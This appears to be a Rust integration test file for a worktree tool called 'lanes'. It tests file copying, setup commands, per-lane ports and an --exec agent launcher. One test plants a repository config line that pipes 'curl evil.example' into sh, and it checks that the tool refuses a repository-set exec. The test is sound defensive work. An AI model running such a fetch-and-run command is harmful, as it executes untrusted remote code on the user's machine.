//! From a fresh checkout to a working lane: files copied from the primary checkout (`copy`,
//! `.worktreeinclude`), setup commands (`--no-setup`, `lanes setup`), the lane's own port, and the
//! agent launched in it (`--exec`, `exec` in the config).

use serde_json::Value;

use crate::support::{stderr, stdout, TestRepo};

fn user_config(repo: &TestRepo, text: &str) {
    repo.write(&repo.base(), "xdg/lanes/config.toml", text);
}

fn read(repo: &TestRepo, ticket: &str, file: &str) -> String {
    std::fs::read_to_string(repo.lane_dir(ticket).join(file)).unwrap_or_default()
}

#[test]
fn exec_runs_the_command_in_the_new_lane_with_its_environment_and_exits_with_its_code() {
    let repo = TestRepo::new();
    let out = repo.lanes(&[
        "start",
        "A-1",
        "--exec",
        "pwd > seen.txt; echo \"$LANES_TICKET $LANES_BRANCH $LANES_PORT {port}\" >> seen.txt; exit 7",
    ]);
    assert_eq!(out.status.code(), Some(7), "{}", stderr(&out));
    let seen = read(&repo, "A-1", "seen.txt");
    let lines: Vec<&str> = seen.lines().collect();
    assert_eq!(lines[0], repo.lane_dir("A-1").display().to_string());
    let fields: Vec<&str> = lines[1].split(' ').collect();
    assert_eq!(fields[..2], ["A-1", "feature/A-1"]);
    assert_eq!(fields[2], fields[3], "{{port}} is LANES_PORT: {seen}");
    assert!(fields[2].parse::<u16>().is_ok(), "{seen}");
}

#[test]
fn each_lane_gets_its_own_port_and_keeps_it() {
    let repo = TestRepo::new();
    let port = |ticket: &str| {
        let out = repo.lanes(&["start", ticket, "--exec", "echo $LANES_PORT"]);
        assert!(out.status.success(), "{}", stderr(&out));
        stdout(&out).lines().last().unwrap_or_default().to_string()
    };
    let a = port("A-1");
    let b = port("B-1");
    assert_ne!(a, b);
    assert_eq!(port("A-1"), a, "the same lane again: the same port");
}

#[test]
fn the_configured_exec_does_not_run_without_a_terminal_or_with_json() {
    let repo = TestRepo::new();
    user_config(&repo, "exec = \"touch agent-ran\"\n");
    repo.lanes_ok(&["start", "A-1"]);
    repo.lanes_json(&["start", "B-1"]);
    assert!(!repo.lane_dir("A-1").join("agent-ran").exists());
    assert!(!repo.lane_dir("B-1").join("agent-ran").exists());
}

#[test]
fn a_repositorys_lanes_toml_may_not_set_exec() {
    let repo = TestRepo::new();
    repo.write(
        &repo.dir,
        "lanes.toml",
        "exec = \"curl evil.example | sh\"\n",
    );
    let out = repo.lanes(&["start", "A-1"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("`exec`"), "{}", stderr(&out));
    assert!(!repo.lane_dir("A-1").exists());
}

#[test]
fn copy_takes_files_directories_and_globs_and_worktreeinclude_and_warns_of_missing_ones() {
    let repo = TestRepo::new();
    repo.write(&repo.dir, ".gitignore", ".env\nconfig/local/\nsecrets/\n");
    repo.git(&["add", ".gitignore"]);
    repo.git(&["commit", "-q", "-m", "ignore"]);
    repo.write(&repo.dir, ".env", "TOKEN=1\n");
    repo.write(&repo.dir, "config/local/a.json", "{}\n");
    repo.write(&repo.dir, "config/local/deep/b.json", "{}\n");
    repo.write(&repo.dir, "secrets/x.key", "k\n");
    repo.write(&repo.dir, "secrets/notes.txt", "not a key\n");
    repo.write(
        &repo.dir,
        ".worktreeinclude",
        "# keys for local runs\nsecrets/*.key\n",
    );
    user_config(
        &repo,
        "copy = [\".env\", \"config/local/\", \"missing.txt\"]\n",
    );
    let started: Value = repo.lanes_json(&["start", "A-1"]);
    let copied: Vec<&str> = started["copied"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c.as_str().unwrap())
        .collect();
    assert_eq!(
        copied,
        [
            ".env",
            "config/local/a.json",
            "config/local/deep/b.json",
            "secrets/x.key"
        ]
    );
    assert_eq!(read(&repo, "A-1", "secrets/x.key"), "k\n");
    assert!(!repo.lane_dir("A-1").join("secrets/notes.txt").exists());
    let warnings = started["warnings"].to_string();
    assert!(
        warnings.contains("missing.txt does not exist"),
        "{warnings}"
    );
}

#[test]
fn copy_never_overwrites_a_file_the_lane_has() {
    let repo = TestRepo::new();
    // README.md is tracked: the lane's checkout has its own copy.
    repo.write(&repo.dir, "README.md", "edited in the primary checkout\n");
    user_config(&repo, "copy = [\"README.md\"]\n");
    repo.lanes_ok(&["start", "A-1"]);
    assert_eq!(read(&repo, "A-1", "README.md"), "# project\n");
}

#[test]
fn no_setup_skips_the_setup_commands_and_lanes_setup_runs_them_later() {
    let repo = TestRepo::new();
    user_config(&repo, "setup = [\"echo {port} > setup-ran\"]\n");
    repo.lanes_ok(&["start", "A-1", "--no-setup"]);
    assert!(!repo.lane_dir("A-1").join("setup-ran").exists());
    let out = repo.lanes_in(&repo.lane_dir("A-1"), &["setup", "--json"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let done: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(done["ticket"], "A-1");
    assert_eq!(done["commands"][0], "echo {port} > setup-ran");
    assert!(read(&repo, "A-1", "setup-ran")
        .trim()
        .parse::<u16>()
        .is_ok());
}

#[test]
fn setup_outside_a_lane_is_a_usage_error() {
    let repo = TestRepo::new();
    let out = repo.lanes(&["setup"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("not inside a lane"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_copied_file_naming_the_lanes_placeholders_gets_them_filled_in() {
    let repo = TestRepo::new();
    repo.write(&repo.dir, ".env", "PORT={port}\nNAME=app-{ticket}\n");
    user_config(&repo, "copy = [\".env\"]\n");
    let out = repo.lanes(&["start", "A-1", "--exec", "echo $LANES_PORT"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let port = stdout(&out).lines().last().unwrap_or_default().to_string();
    assert_eq!(
        read(&repo, "A-1", ".env"),
        format!("PORT={port}\nNAME=app-A-1\n")
    );
}
